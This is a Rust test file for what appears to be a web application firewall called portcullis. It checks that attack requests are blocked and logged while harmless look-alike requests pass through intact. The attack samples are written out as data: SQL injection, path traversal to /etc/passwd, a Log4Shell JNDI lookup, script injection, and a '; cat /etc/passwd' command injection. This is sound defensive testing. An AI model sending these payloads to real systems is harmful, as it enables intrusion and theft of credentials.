//! Inspection: what would be executed does not arrive, its benign twin does, whole; what only observes says what it saw.

use std::fs;

use portcullis_suite::{HOST, Origin, Plan, Response, Wire, pattern};
use portcullis_types::Reason;
use serde_json::Value;

/// A request with a body, of a type.
fn post(path: &str, kind: &str, body: &[u8]) -> Vec<u8> {
    let length = body.len();
    let head =
        format!("POST {path} HTTP/1.1\r\nHost: {HOST}\r\nContent-Type: {kind}\r\nContent-Length: {length}\r\n\r\n");
    [head.as_bytes(), body].concat()
}

fn get(target: &str, fields: &str) -> Vec<u8> {
    format!("GET {target} HTTP/1.1\r\nHost: {HOST}\r\n{fields}\r\n").into_bytes()
}

fn ask(gate: &portcullis_suite::Gate, request: &[u8]) -> Response {
    Wire::plain(gate.http()).ask(request).unwrap_or_else(|broken| panic!("{broken:?}"))
}

const FORM: &str = "application/x-www-form-urlencoded";
const JSON: &str = "application/json";
const PARTS: &str = "multipart/form-data; boundary=x";

fn part(name: &str, content: &str) -> Vec<u8> {
    format!("--x\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{content}\r\n--x--\r\n").into_bytes()
}

#[test]
fn attacks_do_not_arrive_and_their_twins_do() {
    let origin = Origin::echo();
    let gate = Plan::new("inspect-builtin").upstream(&[origin.url()], "").start();
    let table: Vec<(&str, Vec<u8>, Vec<u8>)> = vec![
        (
            "query",
            get("/news?id=1%27%20union%20select%20password%20from%20users--%20-", ""),
            get("/news?q=the%20credit%20union%20has%20a%20select%20few", ""),
        ),
        ("path", get("/files/..%2f..%2f..%2fetc%2fpasswd", ""), get("/files/etc/passwd-policy", "")),
        (
            "header",
            get("/", "User-Agent: ${jndi:ldap://192.0.2.1/a}\r\n"),
            get("/", "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\n"),
        ),
        (
            "cookie",
            get("/", "Cookie: theme=<script>alert(1)</script>\r\n"),
            get("/", "Cookie: theme=dark; lang=en-GB\r\n"),
        ),
        (
            "form",
            post("/join", FORM, b"name=x%3Cscript%3Ealert(1)%3C/script%3E"),
            post("/join", FORM, b"name=Anne+O%27Neill&about=We+were+2+%3C+3+and+then+4"),
        ),
        (
            "json",
            post("/api", JSON, br#"{"a":{"b":["1' union select password from users-- -"]}}"#),
            post("/api", JSON, br#"{"a":{"b":["it's 5 o'clock -- or later"]}}"#),
        ),
        (
            "upload",
            post("/up", PARTS, &part("note", "; cat /etc/passwd")),
            post("/up", PARTS, &part("note", "cats; dogs")),
        ),
    ];
    for (name, attack, twin) in &table {
        let answer = ask(&gate, attack);
        assert_eq!(answer.status, Reason::AttackDetected.status(), "{name}: {}", answer.text());
        let reference = answer.reference().expect("a refusal has a reference").to_owned();
        assert!(origin.take().is_empty(), "{name}: nothing of it arrives");
        let record = gate.journal().by_reference(&reference).expect("it is recorded");
        assert_eq!(record["reason"], Reason::AttackDetected.code(), "{name}: {record}");
        let detail = record["detail"].as_str().unwrap_or_default();
        assert!(detail.contains("score") && detail.contains(" in "), "{name}: where and what: {detail}");
        let explained = gate.command(&["explain", &reference, "--config", &gate.config().display().to_string()]);
        assert!(explained.stdout.contains("attack-detected"), "{name}: {}", explained.stdout);

        let answer = ask(&gate, twin);
        assert_eq!(answer.status, 200, "{name}: {}", answer.text());
        let arrived = origin.take();
        assert_eq!(arrived.len(), 1, "{name}: the twin arrives");
    }
}

#[test]
fn bodies_arrive_whole_whatever_their_length() {
    let origin = Origin::echo();
    let gate = Plan::new("inspect-bodies")
        .table("[waf]\ninspect_body = \"16KiB\"\n")
        .upstream(
            &[origin.url()],
            "[[platform.route]]\npath = \"/strict/**\"\nclass = \"api\"\n[platform.route.waf]\nbeyond = \"refuse\"\n",
        )
        .start();
    for length in [1, 1000, 16 * 1024 - 1, 16 * 1024, 16 * 1024 + 1, 300_000] {
        let body = pattern(length);
        let answer = ask(&gate, &post("/up", "application/octet-stream", &body));
        assert_eq!(answer.status, 200, "{length}");
        let [seen] = &origin.take()[..] else { panic!("one request") };
        assert_eq!((seen.body_len, &seen.body_sha256), (length, &portcullis_suite::digest(&body)), "{length}");
        // The same in pieces, with trailers at its end.
        let chunks: Vec<u8> = body
            .chunks(5000)
            .flat_map(|chunk| [format!("{:x}\r\n", chunk.len()).as_bytes(), chunk, b"\r\n"].concat())
            .collect();
        let head = format!(
            "POST /up HTTP/1.1\r\nHost: {HOST}\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n"
        );
        let answer = ask(&gate, &[head.as_bytes(), &chunks, b"0\r\nx-checked: yes\r\n\r\n"].concat());
        assert_eq!(answer.status, 200, "{length} in pieces");
        let [seen] = &origin.take()[..] else { panic!("one request") };
        assert_eq!((seen.body_len, &seen.body_sha256), (length, &portcullis_suite::digest(&body)), "{length}");
    }
    let long = pattern(20_000);
    let answer = ask(&gate, &post("/strict/up", "text/plain", &long));
    assert_eq!(answer.status, Reason::NotInspected.status());
    assert!(origin.take().is_empty());
    assert_eq!(ask(&gate, &post("/strict/up", "text/plain", &long[..10_000])).status, 200);
}

#[test]
fn what_hides_behind_padding_is_cut_off_on_its_way() {
    let origin = Origin::echo();
    let gate = Plan::new("inspect-padding")
        .table("[waf]\ninspect_body = \"16KiB\"\n")
        .upstream(
            &[origin.url()],
            "[[platform.route]]\npath = \"/watched/**\"\nclass = \"api\"\n[platform.route.waf]\nmode = \"observe\"\n",
        )
        .start();
    let padding = "padding ".repeat(20_000);
    let parts = |content: &str| {
        let first = format!("--x\r\nContent-Disposition: form-data; name=\"p\"\r\n\r\n{padding}\r\n");
        [first.as_bytes(), &part("q", content)].concat()
    };
    let table: Vec<(&str, Vec<u8>, Vec<u8>)> = vec![
        (
            FORM,
            format!("p={}&id=1+union+select+password+from+users--", padding.replace(' ', "+")).into_bytes(),
            format!("p={}&id=the+union+has+a+select+few", padding.replace(' ', "+")).into_bytes(),
        ),
        (
            JSON,
            format!("{{\"p\":\"{padding}\",\"q\":\"<script>alert(1)</script>\"}}").into_bytes(),
            format!("{{\"p\":\"{padding}\",\"q\":\"2 < 3\"}}").into_bytes(),
        ),
        (PARTS, parts("; cat /etc/passwd"), parts("cats; dogs")),
    ];
    for (kind, attack, twin) in &table {
        let in_pieces = |path: &str, body: &[u8]| {
            let head = format!(
                "POST {path} HTTP/1.1\r\nHost: {HOST}\r\nContent-Type: {kind}\r\nTransfer-Encoding: chunked\r\n\r\n"
            );
            let chunks =
                body.chunks(7000).map(|chunk| [format!("{:x}\r\n", chunk.len()).as_bytes(), chunk, b"\r\n"].concat());
            [head.into_bytes(), chunks.collect::<Vec<_>>().concat(), b"0\r\n\r\n".to_vec()].concat()
        };
        for (how, request) in [("whole", post("/up", kind, attack)), ("in pieces", in_pieces("/up", attack))] {
            let answer = ask(&gate, &request);
            assert_eq!(answer.status, Reason::AttackDetected.status(), "{kind} {how}: {}", answer.text());
            assert!(origin.take().is_empty(), "{kind} {how}: the platform never has all of it");
            let reference = answer.reference().expect("a refusal has a reference").to_owned();
            let record = gate.journal().by_reference(&reference).expect("it is recorded");
            assert_eq!(record["verdict"], "refused", "{record}");
            assert_eq!(record["reason"], Reason::AttackDetected.code(), "{record}");
            assert!(record["evidence"].to_string().contains("family"), "{record}");
        }
        for (how, request) in [("whole", post("/up", kind, twin)), ("in pieces", in_pieces("/up", twin))] {
            let answer = ask(&gate, &request);
            assert_eq!(answer.status, 200, "{kind} {how}: {}", answer.text());
            let [seen] = &origin.take()[..] else { panic!("{kind} {how}: the twin arrives") };
            assert_eq!(
                (seen.body_len, &seen.body_sha256),
                (twin.len(), &portcullis_suite::digest(twin)),
                "{kind} {how}"
            );
        }
        let answer = ask(&gate, &post("/watched/up", kind, attack));
        assert_eq!(answer.status, 200, "{kind}, observed only: {}", answer.text());
        assert_eq!(origin.take().len(), 1);
        let watched = |record: &Value| record["path"] == "/watched/up" && record["observed"] != Value::Null;
        let record = gate.journal().find(watched).expect("it is recorded");
        assert!(record["observed"].to_string().contains(Reason::AttackDetected.code()), "{record}");
    }
}

#[test]
fn what_only_observes_refuses_nothing_and_says_what_it_would_have() {
    let origin = Origin::echo();
    let gate = Plan::new("inspect-observe").table("[waf]\nmode = \"observe\"\n").upstream(&[origin.url()], "").start();
    let answer = ask(&gate, &get("/news?id=1%27%20union%20select%20password%20from%20users--%20-", ""));
    assert_eq!(answer.status, 200, "{}", answer.text());
    let record = gate.journal().find(|record| record["path"] == "/news").expect("it is recorded");
    assert!(record["observed"].to_string().contains(Reason::AttackDetected.code()), "{record}");
    assert_eq!(record["reason"], Value::Null);
}

#[test]
fn what_is_not_inspected_to_its_end_is_told() {
    let origin = Origin::echo();
    let start = |name: &str, fail: &str| {
        let plan = Plan::new(name)
            .table(&format!("[waf]\nmode = \"off\"\nrules = [\"own.conf\"]\nsteps = 100000\n{fail}"))
            .upstream(&[origin.url()], "");
        let rules = "SecRule ARGS \"!@rx ^[a-z]+$\" \"id:1,phase:2,pass,nolog\"\n";
        fs::write(plan.place().join("own.conf"), rules).expect("rules can be written");
        plan.start()
    };
    let long = [b"a=".to_vec(), vec![b'1'; 300_000]].concat();
    let gate = start("inspect-steps-closed", "");
    assert_eq!(ask(&gate, &post("/short", FORM, b"a=b&c=d")).status, 200);
    assert_eq!(
        ask(&gate, &post("/long", FORM, &long)).status,
        Reason::NotInspected.status(),
        "who wants not to be seen"
    );
    let gate = start("inspect-steps-open", "fail = \"open\"\n");
    assert_eq!(ask(&gate, &post("/short", FORM, b"a=b&c=d")).status, 200);
    assert_eq!(ask(&gate, &post("/long", FORM, &long)).status, 200, "it passes, as declared");
    let record = gate.journal().find(|record| record["path"] == "/long").expect("it is recorded");
    assert!(record["observed"].to_string().contains(Reason::NotInspected.code()), "{record}");
    let short = gate.journal().find(|record| record["path"] == "/short").expect("it is recorded");
    assert_eq!(short["observed"], serde_json::json!([]));
}

#[test]
fn declared_rules_act_on_requests_and_responses() {
    let origin = Origin::start(|seen, stream| {
        let body = if seen.path() == "/leak" { "table: secret_members" } else { "hello" };
        portcullis_suite::respond(stream, 200, "Content-Type: text/html\r\n", body.as_bytes())?;
        Ok(portcullis_suite::Next::Keep)
    });
    let rules = r#"SecResponseBodyAccess On
SecDefaultAction "phase:2,deny,status:403,log"
SecRule ARGS:colour "@streq octarine" "id:1001,phase:2,deny,msg:'No such colour'"
SecRule ARGS:colour "@streq puce" "id:1002,phase:2,deny,msg:'Nor that one'"
SecRule REQUEST_HEADERS:X-Wizard "@rx ^yes$" "id:1003,phase:1,deny,msg:'No wizards'"
SecRule RESPONSE_BODY "@contains secret_members" "id:1004,phase:4,deny,msg:'That stays here'"
"#;
    let plan = Plan::new("inspect-rules")
        .table("[waf]\nmode = \"off\"\nrules = [\"own.conf\"]\nexclude = [\"1002\"]\n")
        .upstream(
            &[origin.url()],
            "[[platform.route]]\npath = \"/quiet/**\"\nclass = \"page\"\n[platform.route.waf]\nrules_mode = \"observe\"\n",
        );
    fs::write(plan.place().join("own.conf"), rules).expect("rules can be written");
    let gate = plan.start();
    type Expected = Option<(Reason, &'static str)>;
    let table: &[(&str, Vec<u8>, Expected)] = &[
        ("an argument", get("/a?colour=octarine", ""), Some((Reason::RuleMatched, "1001"))),
        ("of a form", post("/a", FORM, b"colour=octarine"), Some((Reason::RuleMatched, "1001"))),
        ("of JSON, another name", post("/a", JSON, br#"{"colour":"octarine"}"#), None),
        ("its twin", get("/a?colour=blue", ""), None),
        ("what is left out", get("/a?colour=puce", ""), None),
        ("a field", get("/a", "X-Wizard: yes\r\n"), Some((Reason::RuleMatched, "1003"))),
        ("an answer", get("/leak", ""), Some((Reason::ResponseRuleMatched, "1004"))),
        ("where rules observe", get("/quiet/a?colour=octarine", ""), None),
    ];
    for (name, request, expected) in table {
        let answer = ask(&gate, request);
        match expected {
            None => assert_eq!(answer.status, 200, "{name}: {}", answer.text()),
            Some((reason, rule)) => {
                assert_eq!(answer.status, reason.status(), "{name}: {}", answer.text());
                let record = gate.journal().by_reference(answer.reference().expect("a reference")).expect("recorded");
                assert_eq!(record["reason"], reason.code(), "{name}");
                assert!(record["detail"].as_str().is_some_and(|detail| detail.contains(rule)), "{name}: {record}");
                assert!(!answer.text().contains("secret_members"), "{name}: it did not leave");
            }
        }
    }
    let quiet = gate.journal().find(|record| record["path"] == "/quiet/a").expect("it is recorded");
    assert!(quiet["observed"].to_string().contains("1001"), "{quiet}");
}

#[test]
fn rules_that_are_not_in_order_are_no_start() {
    let origin = Origin::echo();
    let plan = Plan::new("inspect-broken").table("[waf]\nrules = [\"own.conf\"]\n").upstream(&[origin.url()], "");
    fs::write(plan.place().join("own.conf"), "SecRule ARGS \"@rx (?=a)b\" \"id:1,phase:2,deny\"\n").expect("written");
    let mut plan = plan;
    let config = plan.write();
    let output = std::process::Command::new(portcullis_suite::Gate::binary())
        .args(["check", "--config"])
        .arg(&config)
        .output()
        .expect("the binary runs");
    let said = String::from_utf8_lossy(&output.stderr).into_owned() + &String::from_utf8_lossy(&output.stdout);
    assert!(!output.status.success(), "{said}");
    assert!(said.contains("own.conf") && said.contains(":1"), "file and line: {said}");
}
